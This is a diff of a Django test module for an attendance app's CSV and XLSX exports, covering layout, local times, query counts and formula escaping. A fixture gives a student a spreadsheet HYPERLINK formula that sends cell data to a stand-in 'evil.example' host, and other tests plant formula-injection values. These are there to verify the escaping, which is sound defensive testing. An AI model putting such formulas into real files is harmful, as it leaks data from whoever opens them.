@@ -1,4 +1,11 @@
-"""CSV and XLSX exports: the same rows in both, opened with csv and openpyxl, formula-like text escaped."""
+"""CSV and XLSX exports, opened with csv and openpyxl as their readers would.
+
+CSV is for programs: one header row over flat rows. XLSX is for people: a heading block, a bold
+frozen header row with filters, real dates and times, rates as percentages beside the name and
+the totals on their own sheet. Formula-like text is escaped in both.
+
+The school is in Paris here, so a time that is not converted to it shows up an hour off.
+"""
 
 from __future__ import annotations
 
@@ -10,10 +17,15 @@ from typing import Any
 import pytest
 from asgiref.sync import async_to_sync
 from django.contrib.auth.models import User
+from django.core.signals import request_finished
+from django.db import close_old_connections, connection
 from django.http.response import HttpResponseBase
 from django.test import AsyncRequestFactory, Client
+from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 from openpyxl import load_workbook
+from openpyxl.workbook.workbook import Workbook
+from openpyxl.worksheet.worksheet import Worksheet
 
 from attendance.exports import safe_cell
 from attendance.models import AttendanceRecord, ClassSession, Course, Enrollment
@@ -24,20 +36,26 @@ pytestmark = pytest.mark.django_db
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 ESCAPED = "'" + EVIL
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 
 @pytest.fixture(autouse=True)
-def fast_passwords(settings: Any) -> None:
-    """The people fixtures hash a password each; the default hasher takes half a second a user."""
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
+def school_in_paris(settings: Any) -> None:
+    settings.TIME_ZONE = "Europe/Paris"
 
 
 def at(day: str, hour: int, minute: int = 0) -> datetime.datetime:
+    """An aware time at the school (Paris)."""
     return timezone.make_aware(datetime.datetime.fromisoformat(day).replace(hour=hour, minute=minute))
 
 
+def local(day: str, hour: int, minute: int = 0) -> datetime.datetime:
+    """The same time as the spreadsheet holds it: naive, in the school's time zone."""
+    return datetime.datetime.fromisoformat(day).replace(hour=hour, minute=minute)
+
+
 @pytest.fixture
-def two_weeks(course: Course, student: Student) -> dict[str, Any]:
+def two_weeks(course: Course, student: Student, teacher: User) -> dict[str, Any]:
     """Ada Lovelace and a student whose name is a formula, over two closed sessions of CS101."""
     mallory = Student.objects.create(student_number="S666", first_name=EVIL)
     Enrollment.objects.create(course=course, student=mallory, start_date="2020-01-01")
@@ -50,56 +68,24 @@ def two_weeks(course: Course, student: Student) -> dict[str, Any]:
     for session, who, status, source, seen in [
         (first, student, "present", "face", at("2025-03-03", 9, 2)),
         (second, student, "late", "face", at("2025-03-10", 9, 15)),
-        (first, mallory, "absent", "system", None),
+        (first, mallory, "absent", "manual", None),
         (second, mallory, "excused", "manual", None),
     ]:
         AttendanceRecord.objects.create(session=session, student=who, status=status, source=source, first_seen_at=seen)
+    AttendanceRecord.objects.filter(session=first, student=mallory).update(note="Phoned in sick", changed_by=teacher)
     return {"course": course, "first": first, "ada": student, "mallory": mallory}
 
 
-TALLY_COLUMNS = ["Present", "Late", "Absent", "Excused", "Sessions counted", "Rate (%)", "Below 75%"]
-SESSION_ROWS = [
-    ["Student number", "Name", "Status", "First seen", "Source"],
-    ["S666", ESCAPED, "Absent", "", "Session closed"],
-    ["S001", "Ada Lovelace", "Present", "2025-03-03 09:02:00", "Face recognition"],
-]
-COURSE_ROWS = [
-    ["Student number", "Name", "2025-03-03 09:00", "2025-03-10 09:00", *TALLY_COLUMNS],
-    ["S666", ESCAPED, "Absent", "Excused", "0", "0", "1", "1", "2", "0.0", "yes"],  # 0 / (2 - 1)
-    ["S001", "Ada Lovelace", "Present", "Late", "1", "1", "0", "0", "2", "100.0"],
-    ["", "Present", "1", "0"],
-    ["", "Late", "0", "1"],
-    ["", "Absent", "1", "0"],
-    ["", "Excused", "0", "1"],
-    ["", "Sessions counted", "2", "2"],
-    ["", "Rate (%)", "50.0", "100.0"],
-]
-STUDENT_ROWS = [
-    ["Course", "Course name", "Session", "Status", "First seen", "Source"],
-    ["CS101", "Computing", "2025-03-03 09:00", "Present", "2025-03-03 09:02:00", "Face recognition"],
-    ["CS101", "Computing", "2025-03-10 09:00", "Late", "2025-03-10 09:15:00", "Face recognition"],
-    [],
-    ["Course", "Course name", *TALLY_COLUMNS],
-    ["CS101", "Computing", "1", "1", "0", "0", "2", "100.0"],
-]
-
-
-def expected(rows: list[list[str]]) -> list[list[str | float]]:
-    return [trimmed(row) for row in rows]
-
-
-def trimmed(row: list[str]) -> list[str | float]:
-    """The row without trailing empty cells, numbers as numbers: a spreadsheet keeps 0.0 as 0."""
-    while row and row[-1] == "":
-        row = row[:-1]
-    return [_number(cell) for cell in row]
-
-
-def _number(cell: str) -> str | float:
-    try:
-        return float(cell)
-    except ValueError:
-        return cell
+def get(client: Client, url: str, export_format: str) -> bytes:
+    response = client.get(url + ("&" if "?" in url else "?") + f"format={export_format}")
+    assert response.status_code == 200
+    content = body(response)
+    if export_format == "xlsx":
+        assert response["Content-Type"] == XLSX
+        assert int(response["Content-Length"]) == len(content)
+    else:
+        assert response["Content-Type"] == "text/csv; charset=utf-8"
+    return content
 
 
 def body(response: HttpResponseBase) -> bytes:
@@ -107,51 +93,263 @@ def body(response: HttpResponseBase) -> bytes:
     return b"".join(response.streaming_content)  # type: ignore[attr-defined]
 
 
-def csv_rows(content: bytes) -> list[list[str | float]]:
-    return [trimmed(row) for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))]
+def csv_rows(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
 
 
-def xlsx_rows(content: bytes) -> list[list[str | float]]:
-    sheet = load_workbook(io.BytesIO(content), read_only=True).active
-    return [
-        trimmed(["" if value is None else str(value) for value in row]) for row in sheet.iter_rows(values_only=True)
-    ]
+def workbook(content: bytes) -> Workbook:
+    return load_workbook(io.BytesIO(content))
 
 
-def download(client: Client, url: str, export_format: str) -> list[list[str | float]]:
-    response = client.get(url + ("&" if "?" in url else "?") + f"format={export_format}")
-    assert response.status_code == 200
-    content = body(response)
-    if export_format == "csv":
-        assert response["Content-Type"] == "text/csv; charset=utf-8"
-        return csv_rows(content)
-    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-    assert int(response["Content-Length"]) == len(content)
-    return xlsx_rows(content)
+def values(sheet: Worksheet, *, first_row: int = 1) -> list[list[Any]]:
+    return [list(row) for row in sheet.iter_rows(min_row=first_row, values_only=True)]
 
 
-@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
-def test_exports_hold_the_reports_rows(
-    client: Client, teacher: User, two_weeks: dict[str, Any], export_format: str
+# --- CSV: flat, for programs ----------------------------------------------------------------
+
+TALLY = ["Present", "Late", "Absent", "Excused", "Sessions counted", "Rate (%)", "Below 75%"]
+SESSION_CSV = [
+    ["Student number", "Name", "Status", "First seen", "Source", "Note", "Changed by"],
+    ["S666", ESCAPED, "Absent", "", "Manual", "Phoned in sick", "Tess Teacher"],
+    ["S001", "Ada Lovelace", "Present", "2025-03-03 09:02:00", "Face recognition", "", ""],
+]
+COURSE_CSV = [
+    ["Student number", "Name", "2025-03-03 09:00", "2025-03-10 09:00", *TALLY],
+    ["S666", ESCAPED, "Absent", "Excused", "0", "0", "1", "1", "2", "0.0", "yes"],  # 0 / (2 - 1)
+    ["S001", "Ada Lovelace", "Present", "Late", "1", "1", "0", "0", "2", "100.0", ""],
+]
+STUDENT_CSV = [
+    ["Course", "Course name", "Session", "Status", "First seen", "Source"],
+    ["CS101", "Computing", "2025-03-03 09:00", "Present", "2025-03-03 09:02:00", "Face recognition"],
+    ["CS101", "Computing", "2025-03-10 09:00", "Late", "2025-03-10 09:15:00", "Face recognition"],
+]
+
+
+def report_urls(data: dict[str, Any]) -> dict[str, str]:
+    return {
+        "session": f"/reports/sessions/{data['first'].pk}/",
+        "course": f"/reports/courses/{data['course'].pk}/",
+        "student": f"/reports/students/{data['ada'].pk}/",
+    }
+
+
+@pytest.mark.parametrize(
+    ("report", "rows"), [("session", SESSION_CSV), ("course", COURSE_CSV), ("student", STUDENT_CSV)]
+)
+def test_csv_is_one_header_row_over_flat_rows(
+    client: Client, teacher: User, two_weeks: dict[str, Any], report: str, rows: list[list[str]]
 ) -> None:
+    """No heading, no totals stacked below, no empty rows: every row has the header's columns."""
     client.force_login(teacher)
 
-    assert download(client, f"/reports/sessions/{two_weeks['first'].pk}/", export_format) == expected(SESSION_ROWS)
-    assert download(client, f"/reports/courses/{two_weeks['course'].pk}/", export_format) == expected(COURSE_ROWS)
-    assert download(client, f"/reports/students/{two_weeks['ada'].pk}/", export_format) == expected(STUDENT_ROWS)
+    assert csv_rows(get(client, report_urls(two_weeks)[report], "csv")) == rows
 
 
-def test_csv_and_xlsx_have_the_same_content_for_a_date_range(
-    client: Client, teacher: User, two_weeks: dict[str, Any]
-) -> None:
+def test_csv_of_a_date_range_has_only_its_sessions(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
     client.force_login(teacher)
     url = f"/reports/courses/{two_weeks['course'].pk}/?from=2025-03-05&to=2025-03-31"
 
-    as_csv = download(client, url, "csv")
-    assert as_csv == download(client, url, "xlsx")
-    assert as_csv[0][:3] == ["Student number", "Name", "2025-03-10 09:00"]
-    assert as_csv[1] == ["S666", ESCAPED, "Excused", 0, 0, 0, 1, 1]  # nothing left to count: no rate
-    assert len(as_csv) == 1 + 2 + 6
+    assert csv_rows(get(client, url, "csv")) == [
+        ["Student number", "Name", "2025-03-10 09:00", *TALLY],
+        ["S666", ESCAPED, "Excused", "0", "0", "0", "1", "1", "", ""],  # nothing left to count: no rate
+        ["S001", "Ada Lovelace", "Late", "0", "1", "0", "0", "1", "100.0", ""],
+    ]
+
+
+# --- XLSX: for people -----------------------------------------------------------------------
+
+
+def test_session_xlsx_has_a_heading_and_a_frozen_bold_filtered_header(
+    client: Client, teacher: User, two_weeks: dict[str, Any]
+) -> None:
+    client.force_login(teacher)
+    book = workbook(get(client, report_urls(two_weeks)["session"], "xlsx"))
+
+    assert book.sheetnames == ["Attendance", "Totals"]
+    sheet = book["Attendance"]
+    assert values(sheet) == [
+        ["Course", "CS101 Computing", None, None, None, None, None],
+        ["Starts", local("2025-03-03", 9), None, None, None, None, None],
+        ["Ends", local("2025-03-03", 10), None, None, None, None, None],
+        ["State", "Closed", None, None, None, None, None],
+        ["Time zone", "Europe/Paris", None, None, None, None, None],
+        [None] * 7,
+        ["Student number", "Name", "Status", "First seen", "Source", "Note", "Changed by"],
+        ["S666", ESCAPED, "Absent", None, "Manual", "Phoned in sick", "Tess Teacher"],
+        ["S001", "Ada Lovelace", "Present", local("2025-03-03", 9, 2), "Face recognition", None, None],
+    ]
+    assert sheet["B2"].number_format == "yyyy-mm-dd hh:mm"
+    assert [sheet.cell(row, 1).font.b for row in range(1, 6)] == [True] * 5  # the heading's labels
+    assert [cell.font.b for cell in sheet[7]] == [True] * 7
+    assert not any(cell.font.b for cell in sheet[8])
+    assert sheet.freeze_panes == "C8"  # below the header, the number and name kept in view
+    assert sheet.auto_filter.ref == "A7:G9"
+    assert sheet["D9"].is_date and sheet["D9"].number_format == "yyyy-mm-dd hh:mm:ss"
+
+
+def test_session_xlsx_totals_are_on_their_own_sheet(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
+    client.force_login(teacher)
+    totals = workbook(get(client, report_urls(two_weeks)["session"], "xlsx"))["Totals"]
+
+    assert values(totals, first_row=7) == [
+        ["Rate (%)", "Below 75%", "Present", "Late", "Absent", "Excused", "Students counted"],
+        [0.5, "yes", 1, 0, 1, 0, 2],
+    ]
+    assert totals["A1"].value == "Course" and totals["B1"].value == "CS101 Computing"
+    assert totals["A8"].number_format == "0.0%"
+    assert totals.freeze_panes == "A8"
+    assert totals.auto_filter.ref == "A7:G8"
+
+
+def test_course_xlsx_puts_the_rate_as_a_percentage_beside_the_name(
+    client: Client, teacher: User, two_weeks: dict[str, Any]
+) -> None:
+    client.force_login(teacher)
+    sheet = workbook(get(client, report_urls(two_weeks)["course"], "xlsx"))["Attendance"]
+
+    assert values(sheet, first_row=1)[:6] == [
+        ["Course", "CS101 Computing", *[None] * 9],
+        ["From", "the first session", *[None] * 9],
+        ["To", "the last session", *[None] * 9],
+        ["Sessions held", 2, *[None] * 9],
+        ["Time zone", "Europe/Paris", *[None] * 9],
+        [None] * 11,
+    ]
+    sessions = [local("2025-03-03", 9), local("2025-03-10", 9)]
+    counts = ["Present", "Late", "Absent", "Excused", "Sessions counted"]
+    assert values(sheet, first_row=7) == [
+        ["Student number", "Name", "Rate (%)", "Below 75%", *sessions, *counts],
+        ["S666", ESCAPED, 0.0, "yes", "Absent", "Excused", 0, 0, 1, 1, 2],
+        ["S001", "Ada Lovelace", 1.0, None, "Present", "Late", 1, 1, 0, 0, 2],
+    ]
+    assert [sheet.cell(row, 3).number_format for row in (8, 9)] == ["0.0%", "0.0%"]
+    assert [cell.font.b for cell in sheet[7]] == [True] * 11
+    assert sheet["E7"].is_date and sheet["E7"].number_format == "yyyy-mm-dd hh:mm"
+    assert sheet.freeze_panes == "E8"  # the names and the rate stay in view beside the sessions
+    assert sheet.auto_filter.ref == "A7:K9"
+
+
+def test_course_xlsx_totals_are_one_row_per_session(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
+    client.force_login(teacher)
+    totals = workbook(get(client, report_urls(two_weeks)["course"], "xlsx"))["Totals"]
+
+    assert values(totals, first_row=7) == [
+        ["Session", "Rate (%)", "Below 75%", "Present", "Late", "Absent", "Excused", "Students counted"],
+        [local("2025-03-03", 9), 0.5, "yes", 1, 0, 1, 0, 2],
+        [local("2025-03-10", 9), 1.0, None, 0, 1, 0, 1, 2],
+    ]
+    assert totals["A8"].number_format == "yyyy-mm-dd hh:mm" and totals["B8"].number_format == "0.0%"
+    assert totals.freeze_panes == "A8"
+    assert totals.auto_filter.ref == "A7:H9"
+
+
+def test_course_xlsx_heading_shows_the_date_range(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
+    client.force_login(teacher)
+    url = f"/reports/courses/{two_weeks['course'].pk}/?from=2025-03-05&to=2025-03-31"
+    sheet = workbook(get(client, url, "xlsx"))["Attendance"]
+
+    assert [row[:2] for row in values(sheet)[:4]] == [
+        ["Course", "CS101 Computing"],
+        ["From", datetime.datetime(2025, 3, 5)],
+        ["To", datetime.datetime(2025, 3, 31)],
+        ["Sessions held", 1],
+    ]
+    assert sheet["B2"].number_format == "yyyy-mm-dd"
+    assert values(sheet, first_row=8) == [
+        ["S666", ESCAPED, None, None, "Excused", 0, 0, 0, 1, 1],  # nothing left to count: no rate
+        ["S001", "Ada Lovelace", 1.0, None, "Late", 0, 1, 0, 0, 1],
+    ]
+
+
+def test_student_xlsx_lists_sessions_and_puts_course_totals_on_their_own_sheet(
+    client: Client, teacher: User, two_weeks: dict[str, Any]
+) -> None:
+    client.force_login(teacher)
+    book = workbook(get(client, report_urls(two_weeks)["student"], "xlsx"))
+
+    sheet, totals = book["Attendance"], book["Totals"]
+    assert values(sheet) == [
+        ["Student", "S001 Ada Lovelace", None, None, None, None],
+        ["Time zone", "Europe/Paris", None, None, None, None],
+        [None] * 6,
+        ["Course", "Course name", "Session", "Status", "First seen", "Source"],
+        ["CS101", "Computing", local("2025-03-03", 9), "Present", local("2025-03-03", 9, 2), "Face recognition"],
+        ["CS101", "Computing", local("2025-03-10", 9), "Late", local("2025-03-10", 9, 15), "Face recognition"],
+    ]
+    assert (sheet["C5"].number_format, sheet["E5"].number_format) == ("yyyy-mm-dd hh:mm", "yyyy-mm-dd hh:mm:ss")
+    assert sheet.freeze_panes == "A5"
+    assert sheet.auto_filter.ref == "A4:F6"
+    assert values(totals, first_row=4) == [
+        ["Course", "Course name", "Rate (%)", "Below 75%", "Present", "Late", "Absent", "Excused", "Sessions counted"],
+        ["CS101", "Computing", 1.0, None, 1, 1, 0, 0, 2],
+    ]
+    assert totals["C5"].number_format == "0.0%"
+    assert [cell.font.b for cell in totals[4]] == [True] * 9
+
+
+def test_times_are_the_schools_local_times(client: Client, teacher: User, course: Course, student: Student) -> None:
+    """08:00 UTC is 09:00 in Paris in March: naive 09:00 in XLSX (Excel has no time zones), 09:00 in CSV."""
+    utc = datetime.UTC
+    session = ClassSession.objects.create(
+        course=course,
+        starts_at=datetime.datetime(2025, 3, 3, 8, 0, tzinfo=utc),
+        ends_at=datetime.datetime(2025, 3, 3, 9, 0, tzinfo=utc),
+        state=ClassSession.State.CLOSED,
+    )
+    AttendanceRecord.objects.create(
+        session=session,
+        student=student,
+        status="present",
+        source="face",
+        first_seen_at=datetime.datetime(2025, 3, 3, 8, 1, 30, tzinfo=utc),
+    )
+    client.force_login(teacher)
+    url = f"/reports/sessions/{session.pk}/"
+
+    sheet = workbook(get(client, url, "xlsx"))["Attendance"]
+    assert sheet["B2"].value == datetime.datetime(2025, 3, 3, 9, 0)
+    assert sheet["D8"].value == datetime.datetime(2025, 3, 3, 9, 1, 30)
+    assert csv_rows(get(client, url, "csv"))[1][3] == "2025-03-03 09:01:30"
+
+
+def test_times_fit_their_columns(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
+    """Excel shows a time wider than its column as ####; these formats are as wide as the text they show."""
+    client.force_login(teacher)
+    checked, too_narrow = 0, []
+    for report, url in report_urls(two_weeks).items():
+        for sheet in workbook(get(client, url, "xlsx")).worksheets:
+            dates = [cell for row in sheet.iter_rows() for cell in row if cell.is_date]
+            checked += len(dates)
+            too_narrow += [
+                (report, sheet.title, cell.coordinate)
+                for cell in dates
+                if sheet.column_dimensions[cell.column_letter].width <= len(cell.number_format)
+            ]
+    # Session: start and end in both headings, a first seen; course: the sessions on both sheets;
+    # student: the sessions and the times first seen.
+    assert checked == 2 + 2 + 1 + 2 + 2 + 4
+    assert too_narrow == []
+
+
+def test_session_export_queries_do_not_grow_with_changed_records(
+    client: Client, teacher: User, two_weeks: dict[str, Any]
+) -> None:
+    client.force_login(teacher)
+    url = report_urls(two_weeks)["session"]
+    with CaptureQueriesContext(connection) as before:
+        get(client, url, "csv")
+    for number in range(20):
+        extra = Student.objects.create(student_number=f"X{number:03}", last_name=f"Extra {number}")
+        Enrollment.objects.create(course=two_weeks["course"], student=extra, start_date="2020-01-01")
+        AttendanceRecord.objects.create(
+            session=two_weeks["first"], student=extra, status="late", source="manual", changed_by=teacher
+        )
+    with CaptureQueriesContext(connection) as after:
+        rows = csv_rows(get(client, url, "csv"))
+
+    assert len(rows) == 1 + 22
+    assert [row[-1] for row in rows].count("Tess Teacher") == 21
+    assert len(after.captured_queries) == len(before.captured_queries)
 
 
 def test_downloads_are_named_after_the_report(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
@@ -166,17 +364,52 @@ def test_downloads_are_named_after_the_report(client: Client, teacher: User, two
     assert response["Content-Disposition"] == 'attachment; filename="attendance-S001.csv"'
 
 
-def test_a_formula_in_a_name_stays_text(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
-    client.force_login(teacher)
-    url = f"/reports/courses/{two_weeks['course'].pk}/"
+# --- Formula injection and characters a spreadsheet refuses ------------------------------------
 
-    as_csv = body(client.get(url, {"format": "csv"})).decode("utf-8-sig")
+
+def formula_free(book: Workbook) -> list[Any]:
+    """Every cell value of every sheet, after checking that none is a formula."""
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}  # no formula ("f") anywhere
+    return [cell.value for cell in cells]
+
+
+@pytest.mark.parametrize("report", ["session", "course"])
+def test_a_formula_in_a_name_stays_text(client: Client, teacher: User, two_weeks: dict[str, Any], report: str) -> None:
+    client.force_login(teacher)
+    url = report_urls(two_weeks)[report]
+
+    as_csv = get(client, url, "csv").decode("utf-8-sig")
     assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' in as_csv
     assert "\n=" not in as_csv and ",=" not in as_csv
-    workbook = load_workbook(io.BytesIO(body(client.get(url, {"format": "xlsx"}))))
-    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
-    assert [cell.value for cell in cells if "HYPERLINK" in str(cell.value)] == [ESCAPED]
-    assert {cell.data_type for cell in cells} <= {"s", "n"}  # no formula ("f") anywhere
+    assert [value for value in formula_free(workbook(get(client, url, "xlsx"))) if "HYPERLINK" in str(value)] == [
+        ESCAPED
+    ]
+
+
+def test_a_formula_in_a_note_or_a_course_name_stays_text(
+    client: Client, teacher: User, two_weeks: dict[str, Any]
+) -> None:
+    Course.objects.filter(pk=two_weeks["course"].pk).update(code="@CS", name="+SUM(1)")
+    AttendanceRecord.objects.filter(session=two_weeks["first"], student=two_weeks["ada"]).update(note="-1+2")
+    client.force_login(teacher)
+    url = report_urls(two_weeks)["session"]
+
+    assert csv_rows(get(client, url, "csv"))[2][5] == "'-1+2"
+    cells = formula_free(workbook(get(client, url, "xlsx")))
+    assert "'@CS +SUM(1)" in cells and "'-1+2" in cells
+
+
+def test_control_characters_in_a_note_do_not_break_the_xlsx(
+    client: Client, teacher: User, two_weeks: dict[str, Any]
+) -> None:
+    """openpyxl refuses them in a cell; the teacher's note shows a replacement mark instead."""
+    AttendanceRecord.objects.filter(session=two_weeks["first"], student=two_weeks["ada"]).update(note="bell\x07 here")
+    client.force_login(teacher)
+    url = report_urls(two_weeks)["session"]
+
+    assert workbook(get(client, url, "xlsx"))["Attendance"]["F9"].value == "bell\ufffd here"
+    assert csv_rows(get(client, url, "csv"))[2][5] == "bell\x07 here"
 
 
 def test_the_pages_show_the_name_as_it_is(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
@@ -196,6 +429,9 @@ def test_safe_cell_leaves_the_rest_alone(value: str | float | None) -> None:
     assert safe_cell(value) == value
 
 
+# --- Streaming under ASGI -----------------------------------------------------------------------
+
+
 async def _collect(response: HttpResponseBase) -> bytes:
     return b"".join([chunk async for chunk in response])  # type: ignore[attr-defined]
 
@@ -212,6 +448,17 @@ def test_under_asgi_exports_stream_as_async_iterators(
     response = course_report(request, course_id=course.pk)
     assert response.is_async  # type: ignore[attr-defined]
     content = async_to_sync(_collect)(response)
-    response.close()
+    # As Django's test client does: closing the response must not close the test's connection.
+    request_finished.disconnect(close_old_connections)
+    try:
+        response.close()
+    finally:
+        request_finished.connect(close_old_connections)
 
-    assert (csv_rows if export_format == "csv" else xlsx_rows)(content) == expected(COURSE_ROWS)
+    if export_format == "csv":
+        assert csv_rows(content) == COURSE_CSV
+    else:
+        assert [row[:3] for row in values(workbook(content)["Attendance"], first_row=8)] == [
+            ["S666", ESCAPED, 0.0],
+            ["S001", "Ada Lovelace", 1.0],
+        ]
